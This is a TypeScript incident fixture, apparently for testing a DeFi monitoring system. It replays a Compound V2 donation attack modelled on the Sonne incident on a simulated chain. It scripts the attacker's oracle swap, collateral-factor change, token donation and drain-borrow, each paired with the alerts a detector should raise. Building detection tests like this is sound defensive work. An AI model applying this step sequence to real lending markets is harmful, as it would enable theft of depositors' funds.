import type { Incident } from "../../scene.ts";

const unit = 10n ** 18n;

/** A donation to a nearly empty market multiplies its exchange rate, as at Sonne in May 2024. */
export const compoundV2Donation: Incident = {
  name: "Compound V2 market donated to and borrowed out (Sonne, May 2024)",
  covers: ["G1", "G7", "G9"],
  async setUp({ chain, users, deployer, attacker, coin, fund }) {
    const token = await coin("VELO", 18, 1_000_000_000);
    const comptroller = await chain.deploy("Comptroller");
    const market = await chain.deploy("CToken", comptroller.address, token.address);
    await fund(token, 1_000_000n * unit, market);
    await chain.run(
      market.call(deployer, "mint", [2_000_000n * unit]),
      market.call(deployer, "borrow", [800_000n * unit]),
      token.call(deployer, "transfer", [attacker, 9_000_000n * unit]),
    );
    return {
      watched: { market: market.address, comptroller: comptroller.address },
      traffic: ({ times, pick, amount }) => [
        ...Array.from({ length: times(40) }, () => market.call(pick(users), "mint", [amount(1_500n * unit)])),
        ...Array.from({ length: times(25) }, () =>
          market.call(pick(users), "borrow", [amount(1_000n * unit)]),
        ),
        ...Array.from({ length: times(25) }, () =>
          market.call(pick(users), "repayBorrow", [amount(1_000n * unit)]),
        ),
        ...Array.from({ length: times(30) }, () => comptroller.call(pick(users), "enterMarkets", [[]])),
      ],
      attack: [
        {
          at: 0,
          send: () => [
            comptroller.call(attacker, "_setPriceOracle", [attacker]),
            comptroller.call(attacker, "_setCollateralFactor", [market.address, 9n * 10n ** 17n]),
          ],
          signals: [
            {
              on: "comptroller",
              what: "price oracle replaced",
              by: ["configuration_change"],
              severity: "critical",
            },
          ],
        },
        {
          at: 24,
          send: () => [token.call(attacker, "transfer", [market.address, 8_000_000n * unit])],
          signals: [{ on: "market", what: "exchange rate up", by: ["view_function"], severity: "critical" }],
        },
        {
          at: 60,
          send: () => [market.call(attacker, "borrow", [9_180_000n * unit])],
          signals: [{ on: "market", what: "cash drained", by: ["token_balance"], severity: "critical" }],
        },
        {
          at: 120,
          send: () =>
            users
              .map((user) => market.call(user, "borrow", [10n ** 30n]))
              .concat(users.map((user) => market.call(user, "borrow", [10n ** 30n]))),
          signals: [{ on: "market", what: "transactions fail", by: ["revert_rate"], severity: "warning" }],
        },
        {
          at: 180,
          send: () => [comptroller.call(deployer, "_setMintPaused", [market.address, true])],
          signals: [
            {
              on: "comptroller",
              what: "paused",
              by: ["pause_state", "configuration_change"],
              severity: "critical",
            },
          ],
        },
      ],
    };
  },
};
